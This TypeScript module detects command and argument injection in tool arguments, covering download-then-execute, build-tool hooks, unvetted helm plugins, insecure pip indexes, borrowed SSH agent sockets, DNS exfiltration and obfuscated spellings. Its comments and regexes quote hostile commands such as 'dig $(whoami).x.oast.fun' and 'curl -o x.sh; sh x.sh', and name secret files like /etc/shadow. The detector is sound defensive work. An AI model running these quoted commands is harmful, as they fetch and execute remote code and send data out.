/**
 * Round-15 command techniques the command injection detector checks in tool arguments (input
 * stage only):
 *
 * - downloaded text handed to `source`/`eval` inside a quoted `-c` script
 *   (`fish -c 'curl … | source'`), which the round-13 pattern missed at the closing quote;
 * - a download saved to a file that the same command then runs (`curl -o x.sh …; sh x.sh`,
 *   nushell `http get … | save p.nu; nu p.nu`, `iwr … -OutFile c.exe; start c.exe`): the same
 *   as `curl … | sh`, only through a file;
 * - a build-tool hook running a program from a temp folder (`go build -toolexec=/tmp/x`,
 *   `go test -exec /dev/shm/x`): the compiler and test binaries run through the attacker's file;
 * - `helm plugin install` from a repository that is not a well-known plugin: helm clones it and
 *   runs the plugin's install hook, so an unvetted URL is remote code execution. Chart URLs
 *   (`helm repo add … https://charts…`) and the known plugins pass;
 * - a package list that points pip at an index over plain HTTP or marks a host as trusted
 *   (`--trusted-host` turns TLS checks off), item by item since a list is scanned per item;
 * - `SSH_AUTH_SOCK=/some/socket ssh …`: a command that borrows an agent socket given as a literal
 *   path signs with whoever owns that agent (the session's own agent needs no assignment);
 * - a DNS lookup whose first label is data (`dig $(whoami).x.oast.fun`, a `while read` loop over
 *   `xxd -p` output): DNS exfiltration;
 * - quoting, caret, octal or variable tricks that spell a program or secret file the raw text
 *   never names ({@link hiddenBySpelling}): nobody hides `nc` or `/etc/shadow` by accident.
 *
 * Every pattern is bounded and has no nested quantifiers.
 */
import type { FieldContext } from "../types.ts";
import { lowerOnce } from "../text/lower.ts";

/** The finding for one value: a kind and a reason. */
export interface R15Hit {
  kind: string;
  reason: string;
}

/** A download piped into source/eval/iex right before a closing quote of a `-c` script. */
const FETCH_TO_SOURCE_QUOTED =
  /\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod|http\s+get)\b[^\n;()|]{0,400}\|\s{0,4}(?:source|\.|eval|iex|invoke-expression)\s{0,4}['"\x60]/i;

/** Where a download is saved: the captured path. */
const DOWNLOAD_SAVE = [
  // curl -o FILE / --output FILE / -fsSLo FILE
  /\bcurl(?:\.exe)?\b[^\n;|&]{0,300}?\s(?:-[a-zA-Z]{0,6}o|--output)(?:\s{1,4}|=)['"]?([^\s'";|&]{1,200})/gi,
  // wget -O FILE / -qO FILE / --output-document=FILE
  /\bwget\b[^\n;|&]{0,300}?\s(?:-[a-zA-Z]{0,6}O|--output-document)(?:\s{0,4}|=)['"]?([^\s'";|&-][^\s'";|&]{0,199})/g,
  // PowerShell: iwr/Invoke-WebRequest … -OutFile FILE (or its abbreviation -o)
  /\b(?:iwr|invoke-webrequest|irm|invoke-restmethod|start-bitstransfer)\b[^\n;|&]{0,300}?\s-(?:o|outf|outfile|destination)\s{1,4}['"]?([^\s'";|&]{1,200})/gi,
  // nushell: http get URL | save [-f] FILE
  /\bhttp\s+get\b[^\n;|]{0,300}\|\s{0,4}save\s{1,4}(?:(?:-f|--force|-r|--raw)\s{1,4}){0,2}['"]?([^\s'";|&]{1,200})/gi,
  // a download redirected to a file: curl URL > FILE
  /\b(?:curl|wget\s+-q?O-)\b[^\n;|&>]{0,300}>\s{0,4}['"]?([^\s'";|&>]{1,200})/g,
];
/** What may stand right before a saved file to run it: a separator, or a runner and its options. */
const RUN_BEFORE =
  /(?:^|[;&|\n(]\s{0,4}(?:sudo\s{1,4})?|(?:^|[\s;&|(])(?:(?:ba|z|k|da|fi)?sh|nu|python[23]?|perl|ruby|node|php|deno\s{1,4}run|bun|pwsh|powershell(?:\.exe)?|source|\.|start|start-process|cmd(?:\.exe)?\s{1,4}\/c|chmod\s{1,4}(?:\+|u\+|a\+)?x|&|msiexec(?:\.exe)?\s{1,4}\/i|rundll32|regsvr32|wscript|cscript|mshta)(?:\s{1,4}-{1,2}[\w-]{1,20}){0,3}\s{1,4})['"]?$/i;

/** True when a downloaded file is saved and then run in the same command. */
function downloadThenRun(text: string): boolean {
  for (const re of DOWNLOAD_SAVE) {
    re.lastIndex = 0;
    for (let m = re.exec(text), n = 0; m && n < 4; m = re.exec(text), n++) {
      const file = m[1];
      if (file === "-" || file.startsWith("/dev/null") || /^https?:/i.test(file)) continue;
      // A relative name may be run as `./name`.
      const bare = file.replace(/^\.\//, "");
      let at = text.indexOf(bare, re.lastIndex);
      for (let k = 0; at >= 0 && k < 4; k++, at = text.indexOf(bare, at + bare.length)) {
        const before = text.slice(Math.max(0, at - 60), at).replace(/\.\/$/, "");
        if (RUN_BEFORE.test(before)) return true;
      }
    }
  }
  return false;
}

/** Build-tool hook options whose value is a program the tool runs around its own steps. */
const HOOK_TEMP_PROGRAM =
  /(?<![^\s'"=,\[])--?(?:toolexec|exec|rustc-wrapper|wrapper|compiler|cc|cxx|linker|ld|script-shell|shell|askpass|git-ssh|ssh|use-compress-program)(?:\s{0,4}=\s{0,4}|\s{1,4})['"]?(?:\/(?:tmp|var\/tmp|dev\/shm|private\/tmp)\/|%te?mp%|\$\{?tmpdir\}?|\$env:te?mp|[a-z]:\\(?:windows\\)?temp\\|c:\\users\\[^\\]{1,40}\\appdata\\local\\temp\\)/i;

/** Well-known helm plugins (owner/repo), installed from GitHub in their own docs. */
const KNOWN_HELM_PLUGINS = new Set([
  "databus23/helm-diff",
  "jkroepke/helm-secrets",
  "helm-unittest/helm-unittest",
  "quintush/helm-unittest",
  "chartmuseum/helm-push",
  "helm/helm-2to3",
  "helm/helm-mapkubeapis",
  "aslafy-z/helm-git",
  "hypnoglow/helm-s3",
  "komodorio/helm-dashboard",
  "zendesk/helm-secrets",
  "nikhilsbhat/helm-drift",
  "sigstore/helm-sigstore",
]);
/** `helm plugin install <url>` in one string (the URL group). */
const HELM_PLUGIN_INSTALL =
  /\bplugin\s{1,4}(?:install|add)\s{1,4}(?:--version\s{1,4}\S{1,40}\s{1,4})?['"]?((?:https?|git|ssh):\/\/\S{1,300}|git@\S{1,300})/i;
/** A repository URL on a code host: the owner/repo group. */
const REPO_URL =
  /^(?:(?:https?|git|ssh):\/\/(?:[\w.-]{1,40}@)?|git@)(?:www\.)?(?:github\.com|gitlab\.com|bitbucket\.org|codeberg\.org)[\/:]([\w.-]{1,100}\/[\w.-]{1,100}?)(?:\.git)?\/?(?:[?#]\S{0,200})?$/i;

/** True when a helm plugin is installed from a code-host repository outside the known plugins. */
function unvettedHelmPlugin(text: string, tool: string): boolean {
  const inline = text.includes("plugin") ? text.match(HELM_PLUGIN_INSTALL) : null;
  // A helm tool's argument list carries the URL as one item: judged by its shape alone.
  const url = inline?.[1] ?? (/helm/i.test(tool) ? text.trim() : "");
  const repo = url.match(REPO_URL)?.[1];
  if (!repo) return false;
  return !KNOWN_HELM_PLUGINS.has(repo.toLowerCase().replace(/\.git$/, ""));
}

/** Keys of package lists and index options. */
const PACKAGE_KEY =
  /^(?:packages|package|pkgs|pkg|requirements|dependencies|deps|extra_args|pip_args|install_args|index_url|extra_index_url|index|registry)$/i;
/** A plain-HTTP URL to a host that is not this machine. */
const PLAIN_HTTP = /^http:\/\/(?!(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|\[::1\])(?:[:\/]|$))/i;
/** pip's option that turns TLS verification off for a host (alone, or with its host). */
const TRUSTED_HOST =
  /^--trusted-host(?:$|(?:\s{1,4}|=)(?!(?:localhost|127\.0\.0\.1|\[?::1\]?)(?::\d{1,5})?$)\S)/i;

/** `SSH_AUTH_SOCK=/path/to/socket` set for the command (a literal path, not a lookup). */
const AGENT_SOCKET =
  /(?:^|[\s;&|(])(?:export\s{1,4}|env\s{1,4})?SSH_AUTH_SOCK=['"]?(?:\/|~\/)[^\s'";|&$`]{1,200}/;

/** DNS tools whose first label is a substitution: `dig $(whoami).x.y`, `nslookup \`id\`.x.y`. */
const DNS_SUBSTITUTION =
  /\b(?:dig|nslookup|host|drill|resolvectl\s{1,4}query)\b[^\n;|&]{0,60}?\s['"]?(?:\$\([^()\n]{1,100}\)|\x60[^\x60\n]{1,100}\x60)[\w-]{0,20}\.[\w-]{1,63}\./;
/** DNS tools whose first label is a variable: `dig +short $l.d.example`. */
const DNS_VARIABLE =
  /\b(?:dig|nslookup|host|drill)\b[^\n;|&]{0,60}?\s['"]?\$\{?[A-Za-z_]\w{0,30}\}?[\w-]{0,20}\.[\w-]{1,63}\./;
/** Data turned into DNS-safe labels and read line by line. */
const ENCODED_LINES =
  /\b(?:xxd\s{1,4}-p|od\s{1,4}-A|hexdump|base32|base64)\b[^\n]{0,200}\|\s{0,4}(?:while\s{1,4}read|xargs)\b/;

/** True when a DNS lookup carries data in its first label. */
function dnsExfiltration(text: string): boolean {
  if (DNS_SUBSTITUTION.test(text)) return true;
  return DNS_VARIABLE.test(text) && ENCODED_LINES.test(text);
}

/**
 * Round-15 techniques in one argument value (`text` raw; `free` for a free-text argument). Checked
 * before the detector's prefilter: a package URL, a helm plugin URL or `-toolexec=` needs no shell
 * metacharacter.
 */
export function r15Techniques(
  text: string,
  field: FieldContext,
  free: boolean,
): R15Hit | undefined {
  if (field.stage !== "input" || text.length > 8192) return undefined;
  const key = field.key ?? "";
  if (PACKAGE_KEY.test(key) && (PLAIN_HTTP.test(text.trim()) || TRUSTED_HOST.test(text.trim()))) {
    return {
      kind: "argument_injection",
      reason:
        "points the package installer at a plain-HTTP index or turns TLS checks off for a host",
    };
  }
  // Free text (messages, notes, documents) quotes install steps and build recipes: only command,
  // argument-list, path and ref values are judged.
  if (free) return undefined;
  const tool = field.tool ?? "";
  if (text.includes("|") && FETCH_TO_SOURCE_QUOTED.test(text)) {
    return { kind: "dangerous_command", reason: "hands downloaded text to source/eval" };
  }
  if (downloadThenRun(text)) {
    return { kind: "dangerous_command", reason: "saves a download to a file and runs it" };
  }
  if (text.includes("-") && HOOK_TEMP_PROGRAM.test(text)) {
    return {
      kind: "argument_injection",
      reason: "sets a build-tool hook (-toolexec, -exec, a wrapper) to a program in a temp folder",
    };
  }
  if (text.includes("/") && unvettedHelmPlugin(text, tool)) {
    return {
      kind: "dangerous_command",
      reason:
        "installs a helm plugin from a repository outside the well-known plugins (its install hook runs code)",
    };
  }
  if (text.includes("SSH_AUTH_SOCK=") && AGENT_SOCKET.test(text)) {
    return {
      kind: "dangerous_command",
      reason: "runs with SSH_AUTH_SOCK set to an agent socket path (signs as that agent's owner)",
    };
  }
  if (text.includes("$") || text.includes("\x60")) {
    if (dnsExfiltration(text)) {
      return { kind: "data_exfiltration", reason: "sends data out as DNS lookups (dig/nslookup)" };
    }
  }
  return undefined;
}

/** Programs and secret files that an obfuscated spelling hides. */
const HIDDEN_TARGET =
  /\b(?:nc|ncat|netcat|socat|telnet|curl|wget|iwr|irm|invoke-webrequest|invoke-expression|iex|powershell|pwsh|cmd|bash|sh|python[23]?|perl|base64|certutil|bitsadmin|mshta|rundll32|regsvr32|whoami|cat|dig|nslookup)\b|\/etc\/(?:shadow|passwd|sudoers|gshadow)\b|\/\.ssh\/(?:id_\w{1,10}|authorized_keys)\b|\/\.aws\/credentials\b|\/proc\/self\/environ\b|\\config\\sam\b|\/dev\/tcp\//gi;

/**
 * True when the shell's reading of `raw` (`plain`, after quote removal, carets, ANSI-C escapes,
 * variable joins) names a program or secret file that `raw` itself never spells out.
 */
export function hiddenBySpelling(raw: string, plain: string): boolean {
  if (plain === raw || raw.length > 8192) return false;
  const lower = lowerOnce(raw);
  HIDDEN_TARGET.lastIndex = 0;
  for (let m = HIDDEN_TARGET.exec(plain), n = 0; m && n < 32; m = HIDDEN_TARGET.exec(plain), n++) {
    const word = m[0].toLowerCase();
    let at = lower.indexOf(word);
    let named = false;
    for (let k = 0; at >= 0 && k < 8 && !named; k++, at = lower.indexOf(word, at + 1)) {
      const left = at > 0 ? lower.charCodeAt(at - 1) : 32;
      const right = at + word.length < lower.length ? lower.charCodeAt(at + word.length) : 32;
      // The word stands on its own in the raw text (paths may follow any character).
      const leftOk = !isWordCode(left) || !isWordCode(word.charCodeAt(0));
      const rightOk = !isWordCode(right) || !isWordCode(word.charCodeAt(word.length - 1));
      named = leftOk && rightOk;
    }
    if (!named) return true;
  }
  return false;
}

/** True for an ASCII letter, digit or `_`. */
function isWordCode(c: number): boolean {
  return (c >= 48 && c <= 57) || (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || c === 95;
}
